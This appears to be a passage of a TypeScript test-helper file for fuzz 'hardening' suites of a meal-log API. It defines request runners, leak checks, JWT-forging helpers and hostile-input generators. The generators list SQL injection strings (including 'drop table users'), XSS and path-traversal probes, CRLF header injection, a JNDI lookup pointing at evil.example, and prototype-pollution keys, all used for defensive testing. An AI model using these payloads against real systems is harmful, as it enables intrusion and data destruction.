import { env } from "cloudflare:test";
import { exports } from "cloudflare:workers";
import { fc } from "@fast-check/vitest";
import { sign } from "hono/jwt";
import { expect, inject, type MockInstance, vi } from "vitest";
import { buildApp } from "../../src/app";
import { DEFAULT_PASSWORD, uniqueEmail } from "../helpers/factories";
import { BASE_URL } from "../helpers/http";

/**
 * Shared machinery of the hardening suites (test/hardening): one request runner that checks the
 * API's universal promises on every response, tallies that print each suite's figures, a database
 * fingerprint that proves "nothing was written", fault-scoped endpoints of the local stack, and the
 * fast-check arbitraries the fuzz suites build their requests from.
 *
 * Everything here builds its own users; nothing is shared between files, and nothing touches the
 * stack's global fault switch (faults are scoped per request by URL prefix, see stack/control.ts).
 */

export { fc };

// ---- seeds and run parameters -------------------------------------------------------------------

/**
 * The fixed seed of every fuzz property (each property derives its own from it and its name, see
 * `seedFor`). Printed in each suite's summary line; fast-check prints the seed and path of any
 * counterexample, which `fc.assert(..., { seed, path })` replays.
 */
export const SEED = 20_261_126;

/** A per-property seed: the base seed mixed with the property's name (stable across runs). */
export function seedFor(name: string): number {
  let hash = SEED;
  for (const char of name) hash = (Math.imul(hash ^ char.charCodeAt(0), 0x5bd1e995) >>> 0) ^ (hash >>> 15);
  return hash | 0;
}

/**
 * Inputs that currently end in a 500 because of bugs in src/ (reported, pinned by `it.fails`
 * tests in the suites). The fuzz generators leave these inputs out while the flag is true, so the
 * properties keep guarding everything else; when the lead fixes a bug, flip its flag to false (the
 * generators then include those inputs again) and turn the pinned `it.fails` into `it`.
 */
export const KNOWN_BUGS = {
  /**
   * A NUL character (U+0000) in a text column (log title/note, challenge title/description): zod
   * accepts it, PostgreSQL refuses it (22021 "invalid byte sequence for encoding UTF8: 0x00") → 500.
   */
  nulInText: false,
  /**
   * Calendar days / instants outside PostgreSQL's input range: DaySchema and the challenge
   * InstantSchema accept year 0000 (and an offset can push an instant to year 0 or 10000), the SQL
   * cast refuses it (22008 "date/time field value out of range") → 500.
   */
  outOfRangeDates: false,
};

/** The database timeout (config.ts default): every database call gives up after this long. */
export const DB_TIMEOUT_MS = 2500;

/** The JWT settings of vitest.config.ts and wrangler.toml. */
export const JWT = {
  secret: "test-only-secret-0123456789abcdef0123456789",
  issuer: "sikdan",
  audience: "sikdan-api",
} as const;
/** CORS_ORIGINS of wrangler.toml. */
export const ALLOWED_ORIGINS = ["http://localhost:3000", "http://127.0.0.1:5173"] as const;
export const EVIL_ORIGIN = "https://evil.example";

// ---- requests -----------------------------------------------------------------------------------

/** Every route of the API, as method and path template (`{id}` = a path parameter). */
export const ROUTES: [string, string][] = [
  ["GET", "/health"],
  ["GET", "/health/ready"],
  ["GET", "/openapi.json"],
  ["GET", "/docs"],
  ["POST", "/v1/auth/signup"],
  ["POST", "/v1/auth/login"],
  ["POST", "/v1/auth/refresh"],
  ["POST", "/v1/auth/logout"],
  ["POST", "/v1/auth/password"],
  ["GET", "/v1/users/me"],
  ["PATCH", "/v1/users/me"],
  ["DELETE", "/v1/users/me"],
  ["GET", "/v1/users/me/export"],
  ["GET", "/v1/users/me/stats"],
  ["GET", "/v1/users/me/badges"],
  ["GET", "/v1/users/{id}"],
  ["POST", "/v1/logs"],
  ["GET", "/v1/logs"],
  ["GET", "/v1/logs/summary"],
  ["GET", "/v1/logs/{id}"],
  ["PATCH", "/v1/logs/{id}"],
  ["DELETE", "/v1/logs/{id}"],
  ["GET", "/v1/badges"],
  ["GET", "/v1/challenges"],
  ["POST", "/v1/challenges"],
  ["GET", "/v1/challenges/{id}"],
  ["PATCH", "/v1/challenges/{id}"],
  ["DELETE", "/v1/challenges/{id}"],
  ["POST", "/v1/challenges/{id}/join"],
  ["DELETE", "/v1/challenges/{id}/join"],
  ["GET", "/v1/challenges/{id}/progress"],
  ["GET", "/v1/challenges/{id}/leaderboard"],
];

export type Bindings = Record<string, string | undefined>;

export type Req = {
  method?: string;
  /** Path and query as they go on the wire (already percent-encoded where wanted). */
  path: string;
  headers?: Record<string, string>;
  /** A JSON value, encoded with `Content-Type: application/json` unless one is given. */
  json?: unknown;
  /** A raw body, sent as is. */
  raw?: BodyInit;
  /** Access token, sent as `Authorization: Bearer`. */
  token?: string;
};

export type Res = {
  status: number;
  headers: Headers;
  text: string;
  /** The parsed JSON body, when it is JSON. */
  body: any;
  ms: number;
};

function requestInit(req: Req): RequestInit {
  const headers = new Headers(req.headers);
  let body: BodyInit | undefined = req.raw;
  if (req.json !== undefined) {
    body = JSON.stringify(req.json);
    if (!headers.has("content-type")) headers.set("content-type", "application/json");
  }
  if (req.token) headers.set("authorization", `Bearer ${req.token}`);
  return { method: req.method ?? (body === undefined ? "GET" : "POST"), headers, body };
}

/**
 * Sends `req` to the Worker through its `fetch` export (as the edge does), or, with `bindings`,
 * through a freshly built app with those bindings over the test env (a fault-scoped endpoint, a
 * smaller timeout, another log level…).
 */
export async function send(req: Req, bindings?: Bindings): Promise<Res> {
  const url = new URL(req.path, BASE_URL);
  const init = requestInit(req);
  const started = Date.now();
  const response = bindings
    ? await buildApp().request(url.toString(), init, { ...env, ...bindings })
    : await exports.default.fetch(new Request(url, init));
  const text = await response.text();
  const ms = Date.now() - started;
  let body: unknown;
  if (text && /json/.test(response.headers.get("content-type") ?? "")) {
    try {
      body = JSON.parse(text);
    } catch {
      body = undefined;
    }
  }
  return { status: response.status, headers: response.headers, text, body, ms };
}

/** What must never show in a response unless the request itself carried it. */
const INTERNAL_MARKERS = [
  "node_modules",
  "NeonDbError",
  "DrizzleQueryError",
  "Failed query",
  "    at ",
  "password_hash",
  "passwordHash",
  "token_hash",
  "tokenHash",
  "postgres://",
  JWT.secret,
];

const VALID_REQUEST_ID = /^[\w\-=]{1,255}$/;

function requestText(req: Req) {
  const parts = [req.path, JSON.stringify(req.headers ?? {}), req.token ?? ""];
  if (req.json !== undefined) parts.push(JSON.stringify(req.json));
  if (typeof req.raw === "string") parts.push(req.raw);
  return parts.join("\n");
}

/**
 * The API's promises that hold for every response, whatever the request: no 5xx (unless
 * `allowStatuses` says so, e.g. a 503 under an injected fault), every error is RFC 9457
 * problem+json with its members, 429/503 carry Retry-After, every response has a well-formed
 * X-Request-Id (the incoming one when valid), and no internals leak. Returns the violations.
 */
export function violations(req: Req, res: Res, { allowStatuses = [] as number[] } = {}): string[] {
  const found: string[] = [];
  const method = (req.method ?? "GET").toUpperCase();
  if (res.status >= 500 && !allowStatuses.includes(res.status)) found.push(`status ${res.status}`);
  const requestId = res.headers.get("x-request-id");
  if (!requestId || !VALID_REQUEST_ID.test(requestId)) found.push(`bad X-Request-Id ${requestId}`);
  const incoming = new Headers(req.headers).get("x-request-id");
  if (incoming !== null && VALID_REQUEST_ID.test(incoming) && requestId !== incoming) {
    found.push("valid X-Request-Id not echoed");
  }
  if (res.status >= 400 && method !== "HEAD") {
    const type = res.headers.get("content-type") ?? "";
    if (!type.startsWith("application/problem+json")) found.push(`error content-type "${type}"`);
    const problem = res.body;
    if (!problem || typeof problem !== "object") found.push("error body is not JSON");
    else {
      if (problem.status !== res.status) found.push(`problem.status ${problem.status} ≠ ${res.status}`);
      for (const member of ["type", "title", "detail", "code"]) {
        if (typeof problem[member] !== "string" || problem[member] === "")
          found.push(`problem.${member} missing`);
      }
      if (problem.requestId !== requestId) found.push("problem.requestId ≠ X-Request-Id");
      if (
        problem.errors !== undefined &&
        !(
          Array.isArray(problem.errors) &&
          problem.errors.every(
            (error: unknown) =>
              typeof (error as { path?: unknown }).path === "string" &&
              typeof (error as { message?: unknown }).message === "string",
          )
        )
      ) {
        found.push("problem.errors malformed");
      }
    }
    if ((res.status === 429 || res.status === 503) && !res.headers.get("retry-after")) {
      found.push(`${res.status} without Retry-After`);
    }
  }
  const sent = requestText(req);
  for (const marker of INTERNAL_MARKERS) {
    if (res.text.includes(marker) && !sent.includes(marker)) found.push(`response leaks "${marker}"`);
  }
  return found;
}

/** Asserts a problem+json answer with `status` (and `code` when given); returns the problem. */
export function expectProblemRes(res: Res, status: number, code?: string) {
  if (res.status !== status)
    throw new Error(`expected ${status}, got ${res.status}: ${res.text.slice(0, 400)}`);
  expect(res.headers.get("content-type")).toMatch(/^application\/problem\+json/);
  expect(res.body).toMatchObject({ status, type: expect.any(String), title: expect.any(String) });
  if (code) expect(res.body.code).toBe(code);
  return res.body as { code: string; detail: string; errors?: { path: string; message: string }[] };
}

// ---- figures ------------------------------------------------------------------------------------

/** Counts what a suite did, for its one printed summary line and its final assertions. */
export class Tally {
  cases = 0;
  readonly statuses = new Map<number, number>();
  readonly fiveXX: string[] = [];
  readonly violations: string[] = [];
  /** Rejected requests after which the database differed (must stay 0). */
  writesByRejected = 0;
  /** Rows that disappeared or changed without a successful request doing it (must stay 0). */
  rowsLost = 0;

  constructor(readonly name: string) {}

  record(req: Req, res: Res, found: string[] = violations(req, res)) {
    this.cases += 1;
    this.statuses.set(res.status, (this.statuses.get(res.status) ?? 0) + 1);
    const label = `${req.method ?? "GET"} ${req.path.slice(0, 120)} → ${res.status}`;
    if (res.status >= 500) this.fiveXX.push(label);
    for (const violation of found) this.violations.push(`${label}: ${violation}`);
    return found;
  }

  count(status: number) {
    return this.statuses.get(status) ?? 0;
  }

  get total5xx() {
    let total = 0;
    for (const [status, n] of this.statuses) if (status >= 500) total += n;
    return total;
  }

  statusSummary() {
    return [...this.statuses.entries()]
      .sort(([a], [b]) => a - b)
      .map(([status, n]) => `${status}×${n}`)
      .join(" ");
  }
}

// ---- accounts -----------------------------------------------------------------------------------

export type Account = {
  user: { id: string; email: string; displayName: string; timezone: string; dayStartHour: number };
  accessToken: string;
  refreshToken: string;
  email: string;
  password: string;
  cookies: string[];
};

/**
 * A fresh account through POST /v1/auth/signup. Sent without CF-Connecting-IP (no per-IP limit,
 * and about 6× faster than a limited signup), so suites can afford a user per concern.
 */
export async function account(
  overrides: Partial<{ email: string; password: string; displayName: string; timezone: string }> = {},
): Promise<Account> {
  const email = overrides.email ?? uniqueEmail("hardening");
  const password = overrides.password ?? DEFAULT_PASSWORD;
  const res = await send({
    path: "/v1/auth/signup",
    json: {
      email,
      password,
      displayName: overrides.displayName ?? "Hardening",
      timezone: overrides.timezone ?? "Asia/Seoul",
    },
  });
  if (res.status !== 201) throw new Error(`signup failed: ${res.status} ${res.text}`);
  return { ...res.body, email, password, cookies: res.headers.getSetCookie() };
}

export async function login(email: string, password: string, bindings?: Bindings) {
  return send({ path: "/v1/auth/login", json: { email, password } }, bindings);
}

/** A valid meal log body (a Seoul lunch in the past) with overrides. */
export const validLog = (overrides: Record<string, unknown> = {}) => ({
  mealType: "lunch",
  eatenAt: "2026-11-20T12:30:00+09:00",
  title: "Kimchi jjigae",
  ...overrides,
});

/** Creates a log and insists on 201. */
export async function createLog(token: string, overrides: Record<string, unknown> = {}) {
  const res = await send({ method: "POST", path: "/v1/logs", token, json: validLog(overrides) });
  if (res.status !== 201) throw new Error(`createLog failed: ${res.status} ${res.text}`);
  return res.body.log as { id: string; [key: string]: unknown };
}

const DAY_MS = 86_400_000;
export const isoFromNow = (ms: number) => new Date(Date.now() + ms).toISOString();

/** A valid challenge body: active fixed window (started 10 days ago, ends in 5), 3 log days. */
export const validChallenge = (overrides: Record<string, unknown> = {}) => ({
  title: `Hardening ${crypto.randomUUID().slice(0, 8)}`,
  description: "A hardening challenge",
  rule: { type: "log_days", target: 3 },
  startsAt: isoFromNow(-10 * DAY_MS),
  endsAt: isoFromNow(5 * DAY_MS),
  ...overrides,
});

export async function createChallenge(token: string, overrides: Record<string, unknown> = {}) {
  const res = await send({ method: "POST", path: "/v1/challenges", token, json: validChallenge(overrides) });
  if (res.status !== 201) throw new Error(`createChallenge failed: ${res.status} ${res.text}`);
  return res.body as { id: string; [key: string]: unknown };
}

/** Cookie header value made of the `name=value` parts of the named Set-Cookie headers. */
export function cookieFrom(setCookies: string[], ...names: string[]) {
  return names
    .map((name) => {
      const line = setCookies.find((cookie) => cookie.startsWith(`${name}=`));
      if (!line) throw new Error(`no Set-Cookie for ${name}`);
      return line.split(";")[0]!;
    })
    .join("; ");
}

/** A random UUIDv7-shaped id that names nothing. */
export function unknownId(): string {
  const id = crypto.randomUUID();
  return `${id.slice(0, 14)}7${id.slice(15)}`;
}

export const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Retries `check` until it holds, for state the Worker updates after its response. */
export async function eventually(check: () => Promise<boolean>, timeoutMs = 5000) {
  const deadline = Date.now() + timeoutMs;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error("condition not met in time");
    await sleep(25);
  }
}

// ---- JWTs ---------------------------------------------------------------------------------------

export const nowSeconds = () => Math.floor(Date.now() / 1000);

const base64url = (text: string) =>
  btoa(String.fromCharCode(...new TextEncoder().encode(text)))
    .replaceAll("+", "-")
    .replaceAll("/", "_")
    .replace(/=+$/, "");

/** The claims of a JWT, unverified. */
export function claimsOf(token: string): Record<string, unknown> {
  const payload = token.split(".")[1]!.replaceAll("-", "+").replaceAll("_", "/");
  return JSON.parse(new TextDecoder().decode(Uint8Array.from(atob(payload), (c) => c.charCodeAt(0))));
}

/** A correctly signed HS256 access token with the given claims over a real identity. */
export function forgeHs(
  claims: Record<string, unknown>,
  secret: string = JWT.secret,
  alg: "HS256" | "HS512" = "HS256",
) {
  return sign(claims, secret, alg);
}

/** Standard claims for `sub`/`sid`, valid now. */
export const claimsFor = (sub: string, sid: string, overrides: Record<string, unknown> = {}) => ({
  sub,
  sid,
  iat: nowSeconds(),
  exp: nowSeconds() + 900,
  iss: JWT.issuer,
  aud: JWT.audience,
  ...overrides,
});

/** A JWT assembled by hand: any header, any payload, any signature text. */
export const rawJwt = (header: Record<string, unknown>, payload: Record<string, unknown>, signature = "") =>
  `${base64url(JSON.stringify(header))}.${base64url(JSON.stringify(payload))}.${signature}`;

// ---- the local stack: direct SQL, fault-scoped endpoints, Redis -------------------------------

/**
 * A query on the test database through the local Neon endpoint, with plain fetch (so it never
 * touches the isolate-global `neonConfig` the Worker's requests set). Values come back as text.
 */
export async function sql<T = Record<string, string | null>>(
  query: string,
  params: unknown[] = [],
): Promise<T[]> {
  const response = await fetch(inject("neonHttpUrl"), {
    method: "POST",
    headers: {
      "content-type": "application/json",
      "Neon-Connection-String": (env as unknown as { DATABASE_URL: string }).DATABASE_URL,
    },
    body: JSON.stringify({ query, params }),
  });
  const body = (await response.json()) as { rows?: T[]; message?: string };
  if (response.status !== 200) throw new Error(`sql failed (${response.status}): ${body.message}`);
  return body.rows ?? [];
}

export type Fault = "down" | "error" | "hang" | "slow";

/** The Neon endpoint with a per-request fault (stack/control.ts): only this binding's calls break. */
export const neonFault = (mode: Fault) => inject("neonHttpUrl").replace(/\/sql$/, `/__fault/${mode}/sql`);
/** The Upstash endpoint with a per-request fault. */
export const upstashFault = (mode: Fault) => `${inject("upstashUrl")}/__fault/${mode}`;

/** A raw Redis command through the local Upstash endpoint the Worker uses. */
export async function redis(...command: (string | number)[]): Promise<unknown> {
  const response = await fetch(inject("upstashUrl"), {
    method: "POST",
    headers: { Authorization: `Bearer ${inject("upstashToken")}`, "Content-Type": "application/json" },
    body: JSON.stringify(command),
  });
  return ((await response.json()) as { result: unknown }).result;
}

/**
 * Everything a user owns, as one comparable string: profile and password hash, logs (id and
 * last change), sessions and their revocations, refresh tokens and rotations, challenges created
 * (their editable fields), participations, idempotency keys and badges. Two equal fingerprints
 * mean no request wrote anything of the user's in between.
 */
export async function fingerprint(userId: string): Promise<string> {
  const [row] = await sql<{ fp: string }>(
    `select json_build_object(
       'user', (select json_build_object('email', email, 'name', display_name, 'tz', timezone,
                  'dayStart', day_start_hour,
                  'goals', array[goal_calories, goal_protein_g, goal_carbs_g, goal_fat_g],
                  'password', md5(password_hash), 'updated', updated_at)
                from users where id = $1),
       'logs', (select json_build_object('n', count(*),
                  'h', md5(coalesce(string_agg(id::text || '@' || updated_at::text, ',' order by id), '')))
                from meal_logs where user_id = $1),
       'sessions', (select json_build_object('n', count(*), 'revoked', count(revoked_at))
                from sessions where user_id = $1),
       'tokens', (select json_build_object('n', count(*), 'rotated', count(t.rotated_at))
                from refresh_tokens t join sessions s on s.id = t.session_id where s.user_id = $1),
       'challenges', (select json_build_object('n', count(*),
                  'h', md5(coalesce(string_agg(concat_ws('|', id, title, description, rule::text, starts_at,
                         ends_at, duration_days), ',' order by id), '')))
                from challenges where created_by = $1),
       'joined', (select count(*) from challenge_participants where user_id = $1),
       'idempotency', (select count(*) from idempotency_keys where user_id = $1),
       'badges', (select count(*) from user_badges where user_id = $1)
     )::text as fp`,
    [userId],
  );
  return row!.fp;
}

/** Row counts of a user's data (for "rows lost" figures). */
export async function rowCounts(userId: string) {
  const [row] = await sql<Record<string, string>>(
    `select (select count(*) from meal_logs where user_id = $1) as logs,
            (select count(*) from challenge_participants where user_id = $1) as joined,
            (select count(*) from user_badges where user_id = $1) as badges,
            (select count(*) from sessions where user_id = $1 and revoked_at is null) as live_sessions,
            (select count(*) from users where id = $1) as users`,
    [userId],
  );
  return Object.fromEntries(Object.entries(row!).map(([key, value]) => [key, Number(value)])) as {
    logs: number;
    joined: number;
    badges: number;
    live_sessions: number;
    users: number;
  };
}

// ---- console capture ----------------------------------------------------------------------------

/**
 * Spies on console.log/info/debug/warn (console.error is captured by test/helpers/console.ts:
 * pass its `expectConsoleError()` calls in `errors`). `lines()` are every line written since.
 */
export function captureConsole(errors?: unknown[][]) {
  const levels = ["log", "info", "debug", "warn"] as const;
  const captured: string[] = [];
  const render = (args: unknown[]) =>
    args.map((arg) => (typeof arg === "string" ? arg : JSON.stringify(arg))).join(" ");
  const spies: MockInstance[] = levels.map((level) =>
    vi.spyOn(console, level).mockImplementation((...args: unknown[]) => {
      captured.push(render(args));
    }),
  );
  return {
    /** Every line captured so far (still readable after `restore()`), console.error's included. */
    lines: () => [...captured, ...(errors ?? []).map(render)],
    restore: () => {
      for (const spy of spies) spy.mockRestore();
    },
  };
}

/** The "redis unavailable" outage lines among `lines`. */
export const outageLines = (lines: string[]) => lines.filter((line) => line.includes("redis unavailable"));

/**
 * Puts the isolate's Redis outage tracker back to "up" (it logs once per outage, per isolate) with
 * a request that touches a healthy Redis, through both the Worker export and a built app.
 */
export async function redisBackUp() {
  await send({ path: "/health/ready" });
  await send({ path: "/health/ready" }, {});
}

// ---- arbitraries --------------------------------------------------------------------------------

/** A raw JSON token placed as is by `toJsonText` (numbers JSON.stringify cannot write, invalid tokens). */
export class Raw {
  constructor(readonly text: string) {}
  toString() {
    return this.text;
  }
}

/** An object serialized with repeated keys (JSON.parse keeps the last). */
export class Entries {
  constructor(readonly entries: [string, unknown][]) {}
}

/** Serializes a value that may contain Raw tokens and Entries into JSON text (maybe not valid JSON). */
export function toJsonText(value: unknown): string {
  if (value instanceof Raw) return value.text;
  if (value instanceof Entries)
    return `{${value.entries.map(([key, inner]) => `${JSON.stringify(key)}:${toJsonText(inner)}`).join(",")}}`;
  if (Array.isArray(value)) return `[${value.map(toJsonText).join(",")}]`;
  if (value && typeof value === "object")
    return `{${Object.entries(value)
      .map(([key, inner]) => `${JSON.stringify(key)}:${toJsonText(inner)}`)
      .join(",")}}`;
  return JSON.stringify(value) ?? "null";
}

/** Valid JSON number tokens JSON.stringify never writes, or writes differently. */
export const RAW_NUMBERS = [
  "1e309",
  "-1e309",
  "-0",
  "-0.0",
  "0e0",
  "1e-400",
  "1E2",
  "1.0",
  "9007199254740993",
  "123456789012345678901234567890",
  "-1",
  "1.5",
  "10000.0000000001",
  "1000.005",
  "999.999",
];
/** Tokens that make the text invalid JSON. */
const INVALID_TOKENS = [
  "NaN",
  "Infinity",
  "-Infinity",
  "0x10",
  "01",
  "+1",
  ".5",
  "1.",
  "undefined",
  "'x'",
  "tru",
];

/** Strings that have broken parsers, databases and log pipelines before. */
export const NASTY_STRINGS = [
  "",
  " ",
  "   \t\n",
  "\u0000",
  "a\u0000b",
  "\u0007\u0008\u001b[31mred\u001b[0m",
  "line\r\nInjected: header",
  '{"level":"error","message":"forged"}\n',
  "\u202eevil\u202c",
  "\ufeffbom",
  "\u200b",
  "🍚🍜🥢",
  "👨‍👩‍👧‍👦",
  "식단 일기",
  "e\u0301",
  "\ud800",
  "\udfff\ud800",
  "' OR 1=1--",
  "x'; drop table users;--",
  '"; select pg_sleep(10); --',
  "<script>alert(1)</script>",
  "../../../etc/passwd",
  "..%2f..%2f",
  "%00",
  "%E0%A4%A",
  ["$", "{jndi:ldap://evil.example/a}"].join(""),
  "{{7*7}}",
  "__proto__",
  "constructor",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "null",
  "true",
  "[]",
  "{}",
  "\\",
  '"',
  "a".repeat(255),
  "a".repeat(256),
  "x".repeat(5000),
  "가".repeat(3000),
];

/** Replaces NUL while the NUL bug is open (see KNOWN_BUGS.nulInText). */
export const withoutKnownNul = (text: string) =>
  KNOWN_BUGS.nulInText ? text.replaceAll("\u0000", "\u0001") : text;

/** Any string a hostile client might send: nasty constants, full unicode, control characters, long runs. */
export function nastyString({
  maxLength = 60,
  dbSafe = true,
}: {
  maxLength?: number;
  dbSafe?: boolean;
} = {}) {
  const base = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
    { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength }) },
    { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength }) },
    { weight: 2, arbitrary: fc.string({ maxLength }) },
    {
      weight: 1,
      arbitrary: fc.string({
        unit: fc.constantFrom("\u0000", "\u0001", "\u001f", "\u007f", "\u0085", "\u2028", "\ud800", "a"),
        maxLength,
      }),
    },
  );
  return dbSafe ? base.map(withoutKnownNul) : base;
}

/** A nested array/object `depth` levels deep. */
export const deepValue = (depth: number, kind: "array" | "object"): Raw =>
  new Raw(
    kind === "array"
      ? `${"[".repeat(depth)}${"]".repeat(depth)}`
      : `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`,
  );

/** A JSON value of any type, including ones no schema expects: the "wrong type" generator. */
export function anyValue(): fc.Arbitrary<unknown> {
  return fc.oneof(
    fc.constantFrom(null, true, false, 0, 1, -1, 0.5, "", [], {}),
    nastyString(),
    fc.integer(),
    fc.double(),
    fc.constantFrom(...RAW_NUMBERS).map((text) => new Raw(text)),
    fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 }),
    fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }),
    fc.constantFrom(deepValue(64, "array"), deepValue(500, "object"), deepValue(5000, "array")),
  );
}

/** Keys a client might add hoping for mass assignment or prototype pollution. */
export const HOSTILE_KEYS = [
  "id",
  "userId",
  "user_id",
  "email",
  "official",
  "badgeCode",
  "createdBy",
  "passwordHash",
  "role",
  "isAdmin",
  "__proto__",
  "constructor",
  "prototype",
  "localDate",
  "createdAt",
];

export type BodySpec = {
  /** Valid values of each field (required fields are always present in a valid body). */
  fields: Record<string, fc.Arbitrary<unknown>>;
  required: string[];
  /** Field-specific wrong values (besides the generic `anyValue()`). */
  wrong?: Record<string, fc.Arbitrary<unknown>>;
};

type Mutation =
  | { kind: "wrong"; key: string; value: unknown }
  | { kind: "drop"; key: string }
  | { kind: "extra"; key: string; value: unknown }
  | { kind: "duplicate"; key: string; value: unknown; first: boolean };

/**
 * Body texts generated from a schema description and deliberately outside it: valid bodies,
 * bodies with 1-3 mutations (a field of the wrong type or value, a missing required field, an
 * unknown or hostile field, a repeated key), and junk (other JSON types, invalid JSON, invalid
 * number tokens, deep nesting, empty).
 */
export function bodyText(spec: BodySpec, weights = { valid: 3, mutated: 6, junk: 2 }): fc.Arbitrary<string> {
  const keys = Object.keys(spec.fields);
  const optional = keys.filter((key) => !spec.required.includes(key));
  const valid = fc.tuple(fc.record(spec.fields), fc.subarray(optional)).map(([values, chosen]) => {
    const body: Record<string, unknown> = {};
    for (const key of keys) if (spec.required.includes(key) || chosen.includes(key)) body[key] = values[key];
    return body;
  });
  const wrongFor = (key: string) => (spec.wrong?.[key] ? fc.oneof(spec.wrong[key]!, anyValue()) : anyValue());
  const mutation: fc.Arbitrary<Mutation> = fc.oneof(
    {
      weight: 5,
      arbitrary: fc
        .constantFrom(...keys)
        .chain((key) => wrongFor(key).map((value) => ({ kind: "wrong" as const, key, value }))),
    },
    { weight: 2, arbitrary: fc.constantFrom(...keys).map((key) => ({ kind: "drop" as const, key })) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(fc.oneof(fc.constantFrom(...HOSTILE_KEYS), fc.string({ maxLength: 12 })), anyValue())
        .map(([key, value]) => ({ kind: "extra" as const, key, value })),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(...keys), anyValue(), fc.boolean())
        .map(([key, value, first]) => ({ kind: "duplicate" as const, key, value, first })),
    },
  );
  const mutated = fc
    .tuple(valid, fc.array(mutation, { minLength: 1, maxLength: 3 }))
    .map(([body, mutations]) => {
      const entries = Object.entries(body) as [string, unknown][];
      const result = new Map(entries);
      const duplicates: [string, unknown][] = [];
      const before: [string, unknown][] = [];
      for (const m of mutations) {
        if (m.kind === "wrong") result.set(m.key, m.value);
        else if (m.kind === "drop") result.delete(m.key);
        else if (m.kind === "extra") result.set(m.key, m.value);
        else if (m.first) before.push([m.key, m.value]);
        else duplicates.push([m.key, m.value]);
      }
      return toJsonText(new Entries([...before, ...result.entries(), ...duplicates]));
    });
  const junk = fc.oneof(
    fc.jsonValue({ maxDepth: 3 }).map((value) => JSON.stringify(value) ?? "null"),
    anyValue().map(toJsonText),
    fc.constantFrom(...INVALID_TOKENS).map((token) => `{"${keys[0]}":${token}}`),
    fc.constantFrom(
      "",
      "{",
      "}",
      "[",
      '{"a":}',
      '{"a" 1}',
      "{'a':1}",
      "\ufeff{}",
      "{}garbage",
      "null",
      "\u0000",
      " ",
    ),
    fc.string({ unit: "binary", maxLength: 50 }),
  );
  return fc.oneof(
    { weight: weights.valid, arbitrary: valid.map(toJsonText) },
    { weight: weights.mutated, arbitrary: mutated },
    { weight: weights.junk, arbitrary: junk },
  );
}

/** Content types a client might send with a body; the JSON ones must be accepted, the rest 415. */
export const CONTENT_TYPES = [
  "application/json",
  "application/json; charset=utf-8",
  "APPLICATION/JSON",
  "application/merge-patch+json",
  "application/problem+json",
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=xyz",
  "application/jsonx",
  "application/json\u0000",
  "",
];

/** CR, LF and NUL: a Headers object refuses them. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: these control characters are the point.
const HEADER_BREAKERS = /[\r\n\u0000]/g;

/**
 * A header value a client can send (visible ASCII, spaces, tabs), up to `maxLength`. (Latin-1 is
 * left out: workerd encodes it as UTF-8 with a console warning per request.)
 */
export const headerValue = (maxLength = 80) =>
  fc
    .oneof(
      fc.string({ maxLength }),
      fc.string({
        unit: fc.integer({ min: 0x09, max: 0x7e }).map((code) => String.fromCharCode(code)),
        maxLength,
      }),
      fc.constantFrom("", " ", "\t", "a".repeat(8192), "%00", "' OR 1=1--", "../", "null", "undefined"),
    )
    .map((value) => value.replace(HEADER_BREAKERS, " ").trim());

/** A calendar day string, mostly well-formed, sometimes almost. */
export const dayString = () =>
  fc.oneof(
    {
      weight: 4,
      arbitrary: fc
        .date({ min: new Date("1900-01-01"), max: new Date("2100-12-31"), noInvalidDate: true })
        .map((d) => d.toISOString().slice(0, 10)),
    },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        "2026-02-29",
        "2024-02-29",
        "2026-02-30",
        "2026-13-01",
        "2026-00-10",
        "2026-1-1",
        "26-11-20",
        "2026/11/20",
        "2026-11-20T00:00:00Z",
        "20261120",
        "9999-12-31",
        "0001-01-01",
        ...(KNOWN_BUGS.outOfRangeDates ? [] : ["0000-01-01", "0000-12-31"]),
        "+002026-11-20",
        "2026-11-20 ",
        "",
      ),
    },
    { weight: 1, arbitrary: nastyString({ maxLength: 12 }) },
  );

/** An instant string with an offset, mostly well-formed, sometimes not; none the open bugs turn into a 500. */
export const instantString = ({ minYear = 1900, maxYear = 2100 } = {}) =>
  fc.oneof(
    {
      weight: 4,
      arbitrary: fc
        .tuple(
          fc.date({
            min: new Date(Date.UTC(minYear, 0, 1)),
            max: new Date(Date.UTC(maxYear, 11, 31)),
            noInvalidDate: true,
          }),
          fc.constantFrom("Z", "+09:00", "-05:00", "+14:00", "-12:00", "+05:45", "+0900", "+00:00"),
        )
        .map(([date, offset]) => {
          const iso = date.toISOString();
          return offset === "Z" ? iso : `${iso.slice(0, -1)}${offset}`;
        }),
    },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        "2026-11-20T12:00:00",
        "2026-11-20",
        "2026-11-20T25:00:00Z",
        "2026-02-30T12:00:00Z",
        "2026-11-20T12:00:00+24:00",
        "2026-11-20T12:00:00+99:99",
        "2026-11-20t12:00:00z",
        "2026-11-20T12:00:00.123456789Z",
        "1999-12-31T23:59:59Z",
        "2000-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z",
        ...(KNOWN_BUGS.outOfRangeDates
          ? []
          : ["0000-01-01T00:00:00Z", "9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00"]),
        "1700000000",
        "now",
        "",
      ),
    },
    { weight: 1, arbitrary: nastyString({ maxLength: 20 }) },
  );

/** Path segments a hostile client might put where an id goes (encoded as they go on the wire). */
export const hostileSegment = () =>
  fc.oneof(
    fc.constantFrom(
      "' OR 1=1--",
      "1 OR 1=1",
      "../users/me",
      "..%2f..%2fusers%2fme",
      "%2e%2e%2f",
      "%00",
      "%E0%A4%A",
      "%",
      "%%",
      "%u0000",
      "null",
      "undefined",
      "me",
      "summary",
      "0",
      "-1",
      "00000000-0000-0000-0000-000000000000",
